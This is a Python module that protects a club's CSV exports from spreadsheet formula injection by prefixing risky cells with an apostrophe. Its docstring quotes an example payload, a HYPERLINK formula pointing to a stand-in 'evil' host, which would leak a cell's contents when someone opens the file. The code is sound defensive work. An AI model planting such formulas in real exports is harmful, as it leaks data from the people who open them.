"""CSV files people open in Excel: no cell is ever run as a formula.

Excel (and LibreOffice, Google Sheets) evaluate a cell that starts with = + - @, and a leading tab or
carriage return is dropped before that check. A name such as =HYPERLINK("http://evil/?"&A1) typed
into the club by an SME or a partner would run on a coordinator's desk. Such text gets a leading
apostrophe, which Excel shows as text; numbers (amounts are ints, and "-210000" as text too) and
business numbers (they start with a digit) are left exactly as they are.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer whose every cell goes through `safe_cell`: the only CSV writer of the club's exports."""

    def __init__(self, buffer: TextIO) -> None:
        self._writer = csv.writer(buffer)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
